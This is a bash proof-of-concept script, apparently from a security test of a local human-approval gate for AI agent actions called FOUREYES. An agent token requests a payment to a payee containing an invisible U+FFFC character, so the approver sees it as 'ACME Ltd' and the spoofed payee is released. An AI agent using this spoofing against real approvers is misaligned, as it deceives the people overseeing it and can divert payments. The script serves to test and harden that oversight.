#!/usr/bin/env bash
# H1: U+FFFC OBJECT REPLACEMENT CHARACTER is drawn as a blank cell in the console, is not marked, raises no "Careful"
# banner, and the card says "8 chars" exactly as for "ACME Ltd"; an approval by digest releases "ACME\uFFFCLtd".
# Needs: FOUREYES_BIN, /usr/bin/chromium, puppeteer-core (npm i puppeteer-core in /tmp/attack33).
set -euo pipefail
FE=${FOUREYES_BIN:?set FOUREYES_BIN}; D=$(mktemp -d /tmp/attack33/h1.XXXX); PORT=${PORT:-18533}
cd "$D"
cat > pol.yaml <<'Y'
version: 1
actions:
  payments.send:
    tier: 3
    params:
      amount_eur: { type: number, min: 0.01, max: 500 }
      payee:      { type: string, max_len: 64 }
    approvals: { required: 1, ttl: 24h }
Y
"$FE" --db fe.db --policy pol.yaml serve --listen 127.0.0.1:$PORT > serve.log 2>&1 & SP=$!
trap 'kill $SP' EXIT
sleep 3
B=$("$FE" --db fe.db token create --name bot --role agent | tail -1)
A=$("$FE" --db fe.db token create --name alice --role approver | tail -1)
dec() { curl -s 127.0.0.1:$PORT/v1/decide -H "Authorization: Bearer $B" -d "$1"; }
R=$(dec '{"request_id":"ref","action":"payments.send","params":{"amount_eur":5,"payee":"ACME Ltd"}}')
X=$(dec '{"request_id":"atk","action":"payments.send","params":{"amount_eur":5,"payee":"ACME\ufffcLtd"}}')
RA=$(echo "$R" | python3 -c 'import json,sys;print(json.load(sys.stdin)["approval_id"])')
XA=$(echo "$X" | python3 -c 'import json,sys;print(json.load(sys.stdin)["approval_id"])')
XD=$(echo "$X" | python3 -c 'import json,sys;print(json.load(sys.stdin)["digest"])')
echo "reference approval $RA, attack approval $XA"
NODE_PATH=/tmp/attack33/node_modules node "$(dirname "$0")/h1_pair.js" http://127.0.0.1:$PORT "$A" "$RA" "$XA"
"$FE" --db fe.db approvals show "$XA" | cat -A | grep params
curl -s 127.0.0.1:$PORT/v1/approvals/$XA/approve -H "Authorization: Bearer $A" -d "{\"digest\":\"$XD\"}" >/dev/null
dec '{"request_id":"atk","action":"payments.send","params":{"amount_eur":5,"payee":"ACME\ufffcLtd"}}' \
 | python3 -c 'import json,sys; d=json.load(sys.stdin); print("release:", d["verdict"], ascii(d["params"]["payee"]))'
